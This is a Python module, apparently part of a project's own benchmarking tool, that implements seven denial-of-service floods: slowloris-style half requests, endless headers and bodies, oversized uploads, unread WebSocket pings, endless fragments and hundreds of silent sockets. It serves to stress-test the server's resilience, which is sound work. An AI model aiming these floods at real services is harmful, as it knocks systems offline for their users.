"""Attacks on the process that owns the sockets: what no client of the protocol sends, and strangers
can without a token. For `liveedit bench serve --attack`.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

from serve.client.stream import stream_url
from serve.wire.protocol import PATH, SUBPROTOCOL

PAUSE_S = 0.5  # before a connection that was ended is made again
SOCKETS = 400  # that say nothing
PIECE = 2**20  # bytes
PING = b"\x89\xfd" + bytes(4) + b"p" * 125
EMPTY = b"\x00\x80" + bytes(4)  # a piece of a message that goes on

StreamPair = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def _again(url: str, many: int, attack: Callable[[StreamPair], Awaitable[None]]) -> None:
    """`many` connections, each made again when it is over."""
    parts = urlsplit(stream_url(url))

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                connection = await asyncio.open_connection(parts.hostname, parts.port)
                try:
                    await attack(connection)
                finally:
                    connection[1].transport.abort()
            await asyncio.sleep(PAUSE_S)

    await asyncio.gather(*(one() for _ in range(many)))


async def _pour(writer: asyncio.StreamWriter, piece: bytes) -> None:
    """Until the server ends the connection."""
    while not writer.is_closing():
        writer.write(piece)
        await writer.drain()
        await asyncio.sleep(0)  # drain goes on at once while there is room


async def _upgrade(connection: StreamPair) -> asyncio.StreamWriter:
    reader, writer = connection
    writer.write(
        f"GET {PATH} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: {SUBPROTOCOL}\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
    )
    await reader.readuntil(b"\r\n\r\n")
    return writer


async def half_request(url: str, width: int, height: int, token: str | None) -> None:
    """Requests that begin and never end."""

    async def attack(connection: StreamPair) -> None:
        connection[1].write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        await connection[0].read()

    await _again(url, SOCKETS, attack)


async def long_header(url: str, width: int, height: int, token: str | None) -> None:
    async def attack(connection: StreamPair) -> None:
        connection[1].write(b"GET /healthz HTTP/1.1\r\nX-Long: ")
        await _pour(connection[1], b"a" * PIECE)

    await _again(url, 1, attack)


async def endless_body(url: str, width: int, height: int, token: str | None) -> None:
    """To an address that takes none."""

    async def attack(connection: StreamPair) -> None:
        connection[1].write(b"POST /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 1" + b"0" * 12)
        connection[1].write(b"\r\n\r\n")
        await _pour(connection[1], bytes(PIECE))

    await _again(url, 4, attack)


async def fast_upload(url: str, width: int, height: int, token: str | None) -> None:
    """Videos that come faster than they are stored."""

    async def attack(connection: StreamPair) -> None:
        connection[1].write(
            b"POST /v1/edits HTTP/1.1\r\nHost: x\r\nContent-Length: 500000000\r\n"
            + f"Authorization: Bearer {token}\r\n".encode()
            + b"Content-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n"
            b'Content-Disposition: form-data; name="video"; filename="v"\r\n\r\n'
        )
        await _pour(connection[1], b"\r\n--\r\n-" * (PIECE // 7))

    await _again(url, 8, attack)


async def pings(url: str, width: int, height: int, token: str | None) -> None:
    """Pings whose pongs are not read."""

    async def attack(connection: StreamPair) -> None:
        writer = await _upgrade(connection)
        await _pour(writer, PING * 500)  # a reader that nobody asks takes no more than 128 KB

    await _again(url, 3, attack)


async def fragments(url: str, width: int, height: int, token: str | None) -> None:
    """A message in empty pieces, without an end."""

    async def attack(connection: StreamPair) -> None:
        writer = await _upgrade(connection)
        writer.write(b"\x01" + EMPTY[1:])
        await _pour(writer, EMPTY * 20_000)

    await _again(url, 2, attack)


async def silent(url: str, width: int, height: int, token: str | None) -> None:
    """WebSockets that say nothing."""

    async def attack(connection: StreamPair) -> None:
        await _upgrade(connection)
        await connection[0].read()

    await _again(url, SOCKETS, attack)


FLOODS: dict[str, Callable[[str, int, int, str | None], Awaitable[None]]] = {
    "half-request": half_request,
    "long-header": long_header,
    "endless-body": endless_body,
    "fast-upload": fast_upload,
    "pings": pings,
    "fragments": fragments,
    "silent": silent,
}
